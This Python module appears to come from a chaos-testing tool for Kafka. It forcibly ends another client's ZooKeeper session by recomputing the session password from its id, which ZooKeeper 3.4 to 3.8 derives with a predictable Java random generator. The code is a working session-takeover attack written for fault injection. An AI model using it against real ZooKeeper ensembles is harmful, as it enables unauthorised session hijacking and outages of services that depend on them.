"""Ending somebody else's ZooKeeper session, from outside and at once.

A session is resumed with its id and a 16-byte password. The id of a broker's session is the
`ephemeralOwner` of `/brokers/ids/N`. ZooKeeper does not store passwords: the server derives them
from the id with `java.util.Random`, seeded by the id and a constant that is the same from 3.4 to
3.8 (`ZooKeeperServer.generatePasswd`). So whoever can read the znode can take the session over
and close it. The owner is disconnected first and learns of the expiry when it reconnects.

Library clients are of no use here: connect and close must leave back to back, or the owner
reconnects in between and takes its session back.
"""

import contextlib
import socket
import struct

from kchaos.faults.errors import NoEffect

_SEED = 0xB3415C00
_MULTIPLIER = 0x5DEECE66D
_MASK = (1 << 48) - 1
_PASSWORD_BYTES = 16
_CLOSE_SESSION = -11
_CONNECT_RESPONSE = struct.Struct(">iiiq")


def session_password(session_id: int) -> bytes:
    """Return the 16-byte password that a ZooKeeper server of 3.4 to 3.8 gives to this session.

    The generator is Java's: 48 bits of state, each draw of 32 bits written low byte first.

    Args:
        session_id: Signed, as in a Stat's ephemeralOwner.
    """
    state = ((session_id ^ _SEED) ^ _MULTIPLIER) & _MASK
    drawn = bytearray()
    while len(drawn) < _PASSWORD_BYTES:
        state = (state * _MULTIPLIER + 0xB) & _MASK
        drawn += ((state >> 16) & 0xFFFFFFFF).to_bytes(4, "little")
    return bytes(drawn)


def end_session(address: tuple[str, int], session_id: int, *, timeout_s: float = 5.0) -> None:
    """Take the session over at this ZooKeeper member and close it.

    Raises:
        NoEffect: The server did not accept the takeover: the session is gone already, or this
            ZooKeeper derives passwords in another way.
    """
    connect = struct.pack(
        ">iqiqi16s",
        0,  # protocol version
        0,  # last zxid seen: 0 never makes the server refuse
        30_000,  # timeout asked for, in milliseconds; the session ends before it matters
        session_id,
        _PASSWORD_BYTES,
        session_password(session_id),
    )
    close = struct.pack(">ii", 1, _CLOSE_SESSION)
    with socket.create_connection(address, timeout=timeout_s) as connection:
        connection.sendall(b"".join(struct.pack(">i", len(f)) + f for f in (connect, close)))
        answer = _read_connect_response(connection)
        _, _, negotiated_ms, resumed = _CONNECT_RESPONSE.unpack(answer)
        if negotiated_ms <= 0 or resumed != session_id:
            raise NoEffect(
                f"ZooKeeper at {address[0]}:{address[1]} did not resume session "
                f"{session_id:#x}: it is gone, or its password is derived in another way"
            )
        # The server closes the connection once the session is closed in its log. It may do so
        # by a reset, which tells the same.
        with contextlib.suppress(ConnectionResetError):
            while connection.recv(4096):
                pass


def _read_connect_response(connection: socket.socket) -> bytes:
    received = b""
    while len(received) < _CONNECT_RESPONSE.size:
        part = connection.recv(4096)
        if not part:
            raise NoEffect("ZooKeeper closed the connection without an answer to the takeover")
        received += part
    return received[: _CONNECT_RESPONSE.size]
